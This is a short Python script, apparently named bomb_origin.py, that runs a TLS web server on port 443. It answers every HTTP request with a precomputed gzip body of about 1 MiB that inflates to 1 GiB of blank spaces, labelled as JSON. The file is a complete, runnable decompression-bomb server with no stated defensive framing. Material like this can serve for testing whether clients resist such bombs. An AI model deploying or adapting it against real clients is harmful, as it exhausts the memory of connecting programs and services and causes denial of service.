"""bomb_origin.py ADDRESS CERTIFICATE KEY: answers every request with 1 MiB of gzip that holds 1 GiB of blanks."""
import socket
import ssl
import sys
import threading
import zlib


def bomb():
    coder = zlib.compressobj(9, zlib.DEFLATED, 31)
    blanks = b" " * (1 << 20)
    return b"".join(coder.compress(blanks) for _ in range(1 << 10)) + coder.flush()


ANSWER = bomb()
HEAD = (b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\n"
        b"content-length: %d\r\n\r\n" % len(ANSWER))


def serve(raw):
    try:
        stream = context.wrap_socket(raw, server_side=True)
        got = b""
        while True:
            while b"\r\n\r\n" not in got:
                piece = stream.recv(65536)
                if not piece:
                    return
                got += piece
            head, got = got.split(b"\r\n\r\n", 1)
            size = next((int(line.split(b":")[1]) for line in head.lower().split(b"\r\n")
                         if line.startswith(b"content-length:")), 0)
            while len(got) < size:
                got += stream.recv(65536)
            got = got[size:]
            stream.sendall(HEAD + ANSWER)
    except OSError:
        pass


context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[2], sys.argv[3])
listener = socket.create_server((sys.argv[1], 443))
print("ready", len(ANSWER), flush=True)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
